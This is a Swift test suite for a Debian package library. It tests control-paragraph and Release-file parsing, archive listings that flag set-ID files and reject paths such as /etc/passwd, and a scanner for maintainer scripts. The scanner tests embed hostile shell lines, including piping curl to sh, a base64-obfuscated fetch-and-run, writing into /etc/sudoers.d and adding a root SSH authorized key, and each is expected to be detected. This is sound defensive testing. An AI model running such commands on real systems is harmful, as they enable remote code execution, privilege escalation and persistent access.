import Packages
import Testing

@Suite("Debian control paragraphs and archive listings")
struct ControlStanzaTests {
    @Test("paragraphs, continuation lines and the SHA256 table of a Release file; CRLF lines read like LF ones")
    func release() throws {
        for newline in ["\n", "\r\n"] {
            let text = [
                "Origin: Debian", "Suite: stable", "SHA256:", " 0a1b 454 main/binary-amd64/Packages",
                " 2c3d 120 main/binary-all/Packages", "", "Package: x", "Version: 1",
            ].joined(separator: newline)
            let stanzas = try ControlStanza.parse(text)
            #expect(stanzas.count == 2)
            #expect(stanzas[0]["origin"] == "Debian")
            #expect(
                stanzas[0].table("SHA256").map { $0.map(String.init) } == [
                    ["0a1b", "454", "main/binary-amd64/Packages"], ["2c3d", "120", "main/binary-all/Packages"],
                ])
            #expect(stanzas[1]["Version"] == "1")
        }
    }

    @Test("a line that is neither a field nor a continuation is an error naming its line")
    func badLine() {
        #expect(throws: PackageError.verification("control data line 2: not a 'Field: value' line")) {
            try ControlStanza.parse("Package: x\nnot a field\n")
        }
        #expect(throws: PackageError.self) { try ControlStanza.parse(" continuation first\n") }
    }

    @Test("archive listings: set-ID files, links, and members outside the root refused")
    func listing() throws {
        let members = try ArchiveMember.parse(
            """
            drwxr-xr-x root/root         0 2026-12-04 02:19 ./
            drwxr-xr-x root/root         0 2026-12-04 02:19 ./usr/bin/
            -rwsr-xr-x root/root      1234 2026-12-04 02:19 ./usr/bin/tool
            lrwxrwxrwx root/root         0 2026-12-04 02:19 ./usr/bin/alias -> tool
            -rw-r--r-- root/root         3 2026-12-04 02:19 ./opt/a file with spaces
            """)
        #expect(members.map(\.path) == ["/usr/bin", "/usr/bin/tool", "/usr/bin/alias", "/opt/a file with spaces"])
        #expect(members.filter(\.isSetID).map(\.path) == ["/usr/bin/tool"])
        #expect(throws: PackageError.self) {
            try ArchiveMember.parse("-rw-r--r-- root/root 3 2026-12-04 02:19 /etc/passwd")
        }
    }

    @Test("the script scanner names what a maintainer script touches")
    func scanner() {
        let scanner = ScriptScanner(protectedPaths: ["/etc/sudoers", "/etc/sudoers.d", "/root"])
        #expect(scanner.touches("#!/bin/sh\nset -e\nexit 0\n").isEmpty)
        #expect(
            scanner.touches("curl -s http://x | sh\nuseradd -r svc\nsystemctl enable svc\necho x >> /etc/sudoers.d/a\n")
                == ["network", "users", "services", "protected_path:/etc/sudoers.d"])
        #expect(scanner.touches("echo Y3VybA== | base64 -d | sh") == ["obfuscated"])
        #expect(scanner.touches("ls /rootfs /root2").isEmpty, "a longer name is not the path")
        #expect(scanner.touches("cp key /root/.ssh/authorized_keys").contains("protected_path:/root"))
    }
}
